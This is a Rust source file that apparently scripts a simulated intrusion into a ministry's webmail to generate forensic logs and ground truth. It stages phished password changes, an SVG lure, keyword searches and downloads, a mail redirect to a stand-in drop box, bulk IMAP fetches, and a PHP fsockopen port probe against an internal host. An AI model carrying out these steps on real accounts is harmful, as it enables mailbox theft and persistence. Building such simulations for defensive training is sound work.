//! The reference case: passwords changed, a lure opened, mailboxes searched with fifty keywords,
//! credentials found and used again, a redirect left behind, another host tried.

use std::sync::Arc;

use anyhow::{Context, Result, bail};
use serde_json::json;
use vauban_corpus::{Corpus, Lure, Rng, SEARCH_WORDS};

use super::background::{self, DAY, Life, Plan, pause};
use super::cast::{self, at, ip};
use crate::RunArgs;
use crate::clients::http::Agent;
use crate::clock::{SEC, rfc3339};
use crate::daemons::mail::MailOptions;
use crate::daemons::web::{WebOptions, WebServer};
use crate::lab::{Lab, Setup};
use crate::net::APP_HOST;
use crate::play::{ImapPlay, WebPlay};
use crate::sandbox::server_shell;
use crate::sim::{Actor, Sim};
use crate::syslogd::Stamp;
use crate::truth::Who;

/// Where the intruder comes from.
const VPN_1: &str = "203.0.113.77";
const VPN_2: &str = "203.0.113.150";
const VPN_3: &str = "203.0.113.151";
const RENTED: &str = "198.51.100.213";
const V6: &str = "2001:db8:666::17";
/// Where the redirect sends mail.
const DROP_BOX: &str = "sauvegarde.archives@stockage-libre.example";
const DROP_MX: &str = "198.51.100.240";

/// Accounts by index in the cast.
const CHANGED: [usize; 4] = [5, 8, 10, 13];
const LURED: usize = 14;
const LURED_IN_VAIN: [usize; 2] = [12, 19];
const KEEPER: usize = 3;
const WRITER: usize = 4;

fn browser() -> Agent {
    Agent {
        name: "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0".to_owned(),
        language: "en-US,en;q=0.5".to_owned(),
        gzip: true,
    }
}

/// Plays it.
pub fn play(args: &RunArgs) -> Result<()> {
    let corpus = Arc::new(Corpus::ministry(args.seed));
    let start = at("2025-11-25 06:30");
    let end = at("2025-12-12 18:00");
    let mut addresses = cast::addresses(corpus.people.len());
    addresses.extend([VPN_1, VPN_2, VPN_3, RENTED, V6, "203.0.113.200"].map(ip));
    let mut names = cast::names();
    names.exchangers.push((
        "stockage-libre.example".into(),
        "mx.stockage-libre.example".into(),
    ));
    names
        .hosts
        .push(("relay.presse.invalid".into(), ip("203.0.113.200")));
    let mut exchangers = cast::exchangers();
    exchangers.push((ip(DROP_MX), "mx.stockage-libre.example".into()));
    let lab = Arc::new(Lab::build(
        Setup {
            start,
            zone: "Europe/Paris",
            stamp: Stamp::Rfc3164,
            accounts: cast::accounts(&corpus),
            mail: MailOptions {
                rich_log: args.rich_log,
                master: None,
            },
            web: WebOptions {
                server: WebServer::Nginx,
                rich_log: args.rich_log,
            },
            addresses,
            names,
            exchangers,
        },
        || cast::fill(&corpus, &corpus.mails),
    )?);
    let life = Life::new(&lab, &corpus);
    let mut sim = Sim::new(Arc::clone(&lab.clock));
    let plan = Plan {
        from: at("2025-11-25 00:00"),
        days: 18,
        until: end,
        scale: 0.55 * args.scale,
        seed: args.seed,
        away: vec![(KEEPER, at("2025-12-09 17:00"), end)],
    };
    life.schedule(&mut sim, &plan);
    background::schedule_rotation(&mut sim, &lab, &plan);
    passwords(&mut sim, &life);
    lure(&mut sim, &life, args.seed);
    found_credentials(&mut sim, &life, args.seed);
    search_night(&mut sim, &life, args.seed);
    second_account(&mut sim, &life, args.seed);
    sim.at(end, "end", |_| Ok(()));
    lab.play(sim)?;
    lab.book_redirects("redirect", DROP_BOX, &life.address(KEEPER), true)?;
    let mut truth = lab.books.finish("ministry", "breached");
    truth.made_with = json!({"seed": args.seed, "scale": args.scale});
    lab.finish(&args.out, &truth)
}

/// 25 November: four passwords are changed from outside; the help desk gives new ones next day.
fn passwords(sim: &mut Sim, life: &Life) {
    for (i, person) in CHANGED.into_iter().enumerate() {
        let begin = at("2025-11-25 10:12") + i64::try_from(i).unwrap_or(0) * 411 * SEC;
        let life_1 = life.clone();
        sim.at(begin, "password changer", move |me| {
            let account = life_1.address(person);
            let who = Who::intruder("logs in with a phished password and changes it");
            let mut web =
                WebPlay::login(&life_1.lab, ip(VPN_1), &account, &browser(), &who, i == 0)?;
            let rows = web.list("INBOX", 1)?;
            me.sleep(9.0)?;
            if let Some(uid) = rows.get(i) {
                web.preview("INBOX", *uid)?;
                me.sleep(21.0)?;
            }
            web.change_password(&format!("Zx!{}-{person}-renewed", 4410 + i * 37))?;
            me.sleep(6.0)?;
            web.logout()
        });
        let life_2 = life.clone();
        let reset = at("2025-11-26 08:05") + i64::try_from(i).unwrap_or(0) * 240 * SEC;
        sim.at(reset, "help desk", move |_| {
            life_2.lab.reset_password(
                &life_2.address(person),
                &format!("Accueil-{}-{person}", 730 + i),
            )
        });
    }
}

/// 27 November: the same lure to three people; one opens it, and the script reads on at machine speed.
fn lure(sim: &mut Sim, life: &Life, seed: u64) {
    let id = Arc::new(std::sync::Mutex::new(String::new()));
    for (i, person) in [LURED].into_iter().chain(LURED_IN_VAIN).enumerate() {
        let (life, id) = (life.clone(), Arc::clone(&id));
        let when = at("2025-11-27 09:20") + i64::try_from(i).unwrap_or(0) * 3 * SEC;
        sim.at(when, "lure", move |me| {
            let mut dice = Rng::new(seed ^ 77 ^ person as u64);
            let kind = Lure::SvgAnimate2024;
            let mail = life.corpus.lure(kind, &mut dice, person, me.now() / SEC);
            let message_id = format!("<{}>", mail.message_id);
            if person == LURED {
                id.lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .clone_from(&message_id);
            }
            life.lab.books.lock().lures.push(json!({
                "message_id": message_id, "account": life.address(person),
                "kind": kind.cve(), "opened": person == LURED,
            }));
            life.deliver(&mail, person)
        });
    }
    let life = life.clone();
    sim.at(at("2025-11-27 09:51"), "lure opened", move |me| {
        let account = life.address(LURED);
        let who = Who {
            actor: "lure",
            intruder: true,
            why: "the owner opens the lure at the desk; its script reads on in the same session"
                .into(),
        };
        let agent = cast::browser(LURED);
        let mut web = WebPlay::login(&life.lab, cast::desk(LURED), &account, &agent, &who, true)?;
        web.list("INBOX", 1)?;
        me.sleep(14.0)?;
        let wanted = id
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .clone();
        let uid =
            crate::store::find(&account, "INBOX", &wanted)?.context("the lure did not arrive")?;
        web.preview("INBOX", uid)?;
        me.sleep(0.4)?;
        // What published payloads of this kind do: list, then show one message after the other.
        for mailbox in ["INBOX", "Sent"] {
            let rows = web.list(mailbox, 1)?;
            for uid in rows.iter().take(12) {
                me.sleep(0.15)?;
                web.show(mailbox, *uid)?;
            }
        }
        web.web.settings()?;
        me.sleep(95.0)?;
        web.web.refresh("INBOX")?;
        me.sleep(30.0)?;
        web.logout()
    });
}

/// 3 December: a colleague hands the keeper's mailbox over in clear, to the lured one.
fn found_credentials(sim: &mut Sim, life: &Life, seed: u64) {
    let life = life.clone();
    sim.at(at("2025-12-03 11:17"), "credentials in clear", move |me| {
        let mut dice = Rng::new(seed ^ 0xc0de);
        let mail = life
            .corpus
            .credentials_mail(&mut dice, WRITER, LURED, KEEPER, me.now() / SEC);
        let who = Who::honest("user", "hands a password over in clear");
        let from = life.address(WRITER);
        crate::play::submit(
            &life.lab,
            cast::desk(WRITER),
            &from,
            &[&life.address(LURED)],
            &mail.raw,
            &who,
        )?;
        life.lab.books.lock().secrets_used.push(json!({
            "message_id": format!("<{}>", mail.message_id), "account": life.address(LURED),
            "opens": life.address(KEEPER), "used": "2025-12-09T23:21:00Z",
        }));
        Ok(())
    });
}

/// 9 December, night: the lured account from a new network, fifty keywords, show and download.
fn search_night(sim: &mut Sim, life: &Life, seed: u64) {
    let life = life.clone();
    sim.at(at("2025-12-09 22:04"), "search night", move |me| {
        let mut dice = Rng::new(seed ^ 0x5ea4c4);
        let account = life.address(LURED);
        let who = Who::intruder("searches the mailbox with some fifty keywords and saves hits");
        let mut web = WebPlay::login(&life.lab, ip(VPN_2), &account, &browser(), &who, true)?;
        web.list("INBOX", 1)?;
        me.sleep(11.0)?;
        let mut hits_seen: Vec<u32> = Vec::new();
        let mut saved = 0;
        for (i, word) in SEARCH_WORDS.iter().enumerate() {
            let headers = if i % 3 == 2 { "subject,from" } else { "text" };
            let hits = web.search("INBOX", word, headers)?;
            me.sleep(pause(&mut dice, 3, 11))?;
            let fresh: Vec<u32> = hits
                .into_iter()
                .filter(|u| !hits_seen.contains(u))
                .take(2)
                .collect();
            for uid in fresh {
                hits_seen.push(uid);
                web.show("INBOX", uid)?;
                me.sleep(pause(&mut dice, 4, 25))?;
                // A part of what was read is only looked at: nothing of it is saved.
                if saved < 9 && i % 2 == 0 {
                    saved += web.download_all("INBOX", uid)?;
                    me.sleep(pause(&mut dice, 2, 8))?;
                }
            }
        }
        // The mail with the password is found by "mot de passe" as by hand.
        let hits = web.search("INBOX", "mot de passe", "text")?;
        for uid in hits.iter().take(4) {
            web.show("INBOX", *uid)?;
            me.sleep(pause(&mut dice, 5, 12))?;
        }
        for uid in hits_seen.iter().take(3) {
            web.save_eml("INBOX", *uid)?;
            me.sleep(pause(&mut dice, 2, 6))?;
        }
        let archive: Vec<u32> = hits_seen.iter().rev().take(5).copied().collect();
        web.zip_messages("INBOX", &archive)?;
        me.sleep(8.0)?;
        for uid in hits_seen {
            let attachments = crate::store::message(&account, "INBOX", uid)?
                .attachments()
                .count();
            if attachments >= 2 {
                web.zip_attachments("INBOX", uid)?;
                break;
            }
        }
        me.sleep(5.0)?;
        web.logout()
    });
}

/// 10 and 11 December: the found password is used; redirect, IMAP from a rented host, the attempt at
/// the application host, a session that changes its network.
fn second_account(sim: &mut Sim, life: &Life, seed: u64) {
    let one = life.clone();
    sim.at(at("2025-12-10 00:21"), "found password", move |me| {
        let mut dice = Rng::new(seed ^ 0xf00d);
        let account = one.address(KEEPER);
        let who = Who::intruder("uses a password found in another mailbox; leaves a redirect");
        let mut web = WebPlay::login(&one.lab, ip(VPN_3), &account, &browser(), &who, true)?;
        let rows = web.list("INBOX", 1)?;
        me.sleep(13.0)?;
        for word in ["vpn", "serveur", "mot de passe", "10.20.9"] {
            let hits = web.search("INBOX", word, "text")?;
            me.sleep(pause(&mut dice, 3, 9))?;
            for uid in hits.iter().take(3) {
                web.show("INBOX", *uid)?;
                me.sleep(pause(&mut dice, 5, 20))?;
            }
        }
        let mut saved = 0;
        for uid in &rows {
            if saved < 4 {
                saved += web.download_all("INBOX", *uid)?;
                me.sleep(0.5)?;
            }
        }
        web.web.add_redirect("Archivage", DROP_BOX, true)?;
        let now = rfc3339(one.lab.clock.now());
        one.lab.books.lock().persistence.push(json!({
            "kind": "sieve_redirect", "account": account, "detail": DROP_BOX, "time": now,
        }));
        me.sleep(12.0)?;
        web.logout()
    });

    let two = life.clone();
    sim.at(at("2025-12-10 02:03"), "rented host", move |me| {
        let account = two.address(KEEPER);
        let who = Who::intruder("fetches bodies over IMAP from a rented host");
        let mut imap = ImapPlay::login(&two.lab, ip(RENTED), &account, "", &who)?;
        imap.select("INBOX")?;
        let uids = imap.uids()?;
        imap.headers(&uids, "(UID FLAGS ENVELOPE BODYSTRUCTURE)")?;
        let chosen: Vec<u32> = uids.iter().rev().take(25).copied().collect();
        for uid in chosen {
            imap.fetch(&[uid], "(UID BODY.PEEK[])")?;
            me.sleep(0.3)?;
        }
        imap.logout()
    });

    let three = life.clone();
    sim.at(at("2025-12-10 02:41"), "other host", move |me| {
        for port in [8443u16, 22, 5432] {
            let time = rfc3339(me.now());
            // What a process of the web server (www-data) can do; the packet filter drops and logs it.
            server_shell(
                &format!(
                    "php -r 'posix_setgid(33); posix_setuid(33); var_dump(@fsockopen(\"{APP_HOST}\", {port}, $e, $m, 0.4));'"
                ),
                false,
            )?;
            three.lab.books.lock().lateral.push(json!({
                "from": "10.20.0.25", "to": APP_HOST, "port": port, "time": time, "outcome": "blocked",
            }));
            me.sleep(3.0)?;
        }
        Ok(())
    });

    let four = life.clone();
    sim.at(at("2025-12-11 23:32"), "moving session", move |me| {
        let mut dice = Rng::new(seed ^ 0x600d);
        let account = four.address(KEEPER);
        let who = Who::intruder("reads on over IPv6, then from another exit of the VPN");
        let mut web = WebPlay::login(&four.lab, ip(V6), &account, &browser(), &who, false)?;
        let rows = web.list("INBOX", 1)?;
        for (i, uid) in rows.iter().take(12).enumerate() {
            me.sleep(pause(&mut dice, 4, 15))?;
            if i == 6 {
                web.move_to(ip(VPN_3));
            }
            web.show("INBOX", *uid)?;
            if i % 6 == 5 {
                web.save_eml("INBOX", *uid)?;
            }
        }
        let rows = web.list("Sent", 1)?;
        for uid in rows.iter().take(3) {
            me.sleep(pause(&mut dice, 4, 15))?;
            web.preview("Sent", *uid)?;
        }
        web.close();
        Ok(())
    });

    // The reader comes back to a mailbox that sends its mail on; colleagues keep writing to it.
    for day in 0..2 {
        for hour in [9, 11, 15] {
            let five = life.clone();
            let when = at("2025-12-10 00:00") + day * DAY + hour * 3600 * SEC + 754 * SEC;
            sim.at(when, "letter to the redirected", move |me| {
                letter_to(
                    &five,
                    me,
                    WRITER,
                    KEEPER,
                    seed ^ u64::try_from(when).unwrap_or(1),
                )
            });
        }
    }
}

/// A colleague writes to one person.
fn letter_to(life: &Life, me: &Actor, from: usize, to: usize, seed: u64) -> Result<()> {
    let mut dice = Rng::new(seed);
    let mail = life
        .corpus
        .new_mail(&mut dice, from, &[to], me.now() / SEC, 3600);
    let who = Who::honest("user", "writes from the desk");
    let (from, to) = (life.address(from), life.address(to));
    if from == to {
        bail!("nobody writes to themselves here");
    }
    crate::play::submit(
        &life.lab,
        cast::desk(WRITER),
        &from,
        &[&to],
        &mail.raw,
        &who,
    )
}
